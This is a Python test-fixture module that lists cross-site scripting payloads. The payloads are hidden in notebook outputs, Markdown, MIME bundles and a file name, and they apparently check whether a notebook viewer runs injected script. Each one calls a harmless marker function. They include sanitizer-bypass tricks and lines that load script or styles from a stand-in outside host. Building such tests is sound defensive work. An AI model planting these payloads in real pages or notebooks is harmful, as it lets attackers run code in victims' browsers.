"""Outputs, texts and names that try to run script in the browser of whoever opens a notebook.

Each calls `ran(<its own name>)`, which a test gives to every page and frame.
"""

import base64
from typing import Any

__all__ = ["BARE", "CLICK", "MARKDOWN", "NAME", "OUTPUTS"]

SVG = "http://www.w3.org/2000/svg"
NAME = "<img src=x onerror=ran('name')>.ipynb"


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def frame(name: str) -> str:
    return f"<script>parent.ran('{name}')</script>"


_HTML = {
    "script": "<script>ran('script')</script>",
    "image": "<img src=x onerror=ran('image')>",
    "svg": f'<svg xmlns="{SVG}" onload="ran(\'svg\')"><circle r="9"/></svg>',
    "svg-script": f'<svg xmlns="{SVG}"><script>ran("svg-script")</script></svg>',
    "svg-animate": "<svg><a><animate attributeName=href values=javascript:ran('svg-animate') />"
    "<text x=20 y=20>x</text></a></svg>",
    "frame-text": f'<iframe srcdoc="{frame("frame-text")}"></iframe>',
    "frame-link": "<iframe src=\"javascript:parent.ran('frame-link')\"></iframe>",
    "frame-data": f"<iframe src='data:text/html;base64,{b64(frame('frame-data'))}'></iframe>",
    "object": f"<object data='data:text/html;base64,{b64(frame('object'))}'></object>",
    "embed": f"<embed src='data:image/svg+xml;base64,{b64(frame('embed'))}'>",
    "details": "<details open ontoggle=ran('details')><summary>x</summary>y</details>",
    "media": "<video><source onerror=ran('media')></video>",
    "focus": "<input autofocus onfocus=ran('focus')>",
    "style": "<style onload=ran('style')>p{color:red}</style>",
    "styled": "<style>@keyframes w{}</style><p style='animation:w' onanimationstart=ran('styled')>",
    "marquee": "<marquee onstart=ran('marquee')>x</marquee>",
    "mutation": "<math><mtext><table><mglyph><style><!--</style>"
    "<img title=\"--&gt;&lt;img src=1 onerror=ran('mutation')&gt;\">",
    "namespace": "<svg></p><style><a id=\"</style><img src=1 onerror=ran('namespace')>\">",
    "template": "<template><script>ran('template')</script></template>"
    "<img src=x onerror=ran('template')>",
    "refresh": "<meta http-equiv=refresh content=\"0;url=javascript:ran('refresh')\">",
    "base": "<base href='https://elsewhere.example/'><script src='x.js'></script>",
    "import": "<style>@import 'https://elsewhere.example/x.css';</style>"
    "<p style='background:url(https://elsewhere.example/y)'>x</p>",
    "own-file": "<script src='/user/researcher/nafld-mortality/api/contents/evil.py'></script>"
    "<script src='/user/researcher/nafld-mortality/files/evil.py'></script>",
    "link": "<a class=tempting href=\"javascript:ran('link')\">x</a>",
    "link-data": f"<a class=tempting href='data:text/html;base64,{b64(frame('link-data'))}'>x</a>",
    "form": "<form action=\"javascript:ran('form')\"><button class=tempting>x</button></form>",
    "form-button": "<form><button class=tempting formaction=\"javascript:ran('form-button')\">x"
    "</button></form>",
    "click": "<p class=tempting onclick=ran('click')>x</p>",
    "command": "<button class=tempting data-commandlinker-command='apputils:change-theme' "
    "data-commandlinker-args='{&quot;theme&quot;:&quot;JupyterLab Dark&quot;}'>x</button>"
    "<a class=tempting href='#' data-commandlinker-command='apputils:change-theme' "
    "data-commandlinker-args='{&quot;theme&quot;:&quot;JupyterLab Dark&quot;}'>x</a>",
}
BARE = {
    name: _HTML[name]
    for name in ("script", "image", "svg", "svg-script", "frame-text", "frame-link", "details",
                 "media", "focus", "style", "template", "link", "click", "form", "form-button")
}  # fmt: skip
"""Those of them that run on a page without any guard, in the browser of the tests."""
CLICK = ".tempting"
_VEGA = {
    "$schema": "https://vega.github.io/schema/vega/v5.json",
    "signals": [{"name": "s", "init": "ran('vega')"}],
    "marks": [{"type": "image", "encode": {"enter": {"url": {"value": "javascript:ran('vega')"}}}}],
}
_OTHER: dict[str, Any] = {
    "image/svg+xml": f'<svg xmlns="{SVG}" onload="ran(\'mime-svg\')">'
    '<script>ran("mime-svg")</script></svg>',
    "application/javascript": "ran('mime-javascript')",
    "text/javascript": "ran('mime-text-javascript')",
    "text/markdown": "<script>ran('mime-markdown')</script><img src=x onerror=ran('mime-markdown')>"
    "\n\n[x](javascript:ran('mime-markdown'))",
    "text/latex": "$\\href{javascript:ran('mime-latex')}{x} \\class{tempting}{y} "
    "\\style{background:url(https://elsewhere.example/z)}{z}$<img src=x onerror=ran('mime-latex')>",
    "application/vnd.vega.v5+json": _VEGA,
    "application/vnd.vegalite.v5+json": _VEGA,
    "application/vnd.plotly.v1+json": {
        "data": [{"type": "scatter", "text": ["<a href=\"javascript:ran('plotly')\">x</a>"]}],
        "layout": {"title": {"text": "<img src=x onerror=ran('plotly')>"}},
    },
    "application/vnd.jupyter.widget-view+json": {"model_id": "a", "version_major": 2},
    "text/vnd.mermaid": "graph TD; A[<img src=x onerror=ran('mermaid')>]; "
    "click A href \"javascript:ran('mermaid')\"",
    "application/pdf": b64("%PDF-1.4 1 0 obj<</OpenAction<</S/JavaScript/JS(ran('pdf'))>>>>"),
    "image/png": "x\" onerror=\"ran('mime-png')",
    "image/jpeg": b64("<script>ran('mime-jpeg')</script>"),
    "application/json": {
        "<img src=x onerror=ran('mime-json')>": "<script>ran('mime-json')</script>"
    },
    "application/geo+json": {"type": "<img src=x onerror=ran('geo')>"},
    "application/x-html": "<script>ran('unknown')</script>",
    "text/html; charset=utf-8": "<script>ran('parameter')</script>",
    "TEXT/HTML": "<script>ran('upper-case')</script>",
    "text/plain": "<script>ran('text')</script>\x1b]8;;javascript:ran('text')\x07x\x1b]8;;\x07",
}
OUTPUTS: list[dict[str, Any]] = [
    *({"text/html": one} for one in _HTML.values()),
    {"text/html": ["<scr", "ipt>ran('lines')</scr", "ipt><img src=x oner", "ror=ran('lines')>"]},
    *({kind: value} for kind, value in _OTHER.items()),
]
MARKDOWN = [
    *_HTML.values(),
    "[x](javascript:ran('md-link)') <javascript:ran('md-link')>",
    "![x](x\"onerror=\"ran('md-image'))",
    "```mermaid\ngraph TD; A[<img src=x onerror=ran('md-mermaid')>]\n```",
    "$$\\href{javascript:ran('md-math')}{x}$$ $\\text{<img src=x onerror=ran('md-math')>}$",
    "<div class='lm-Widget jp-Dialog'><img src=x onerror=ran('md-class')></div>",
]
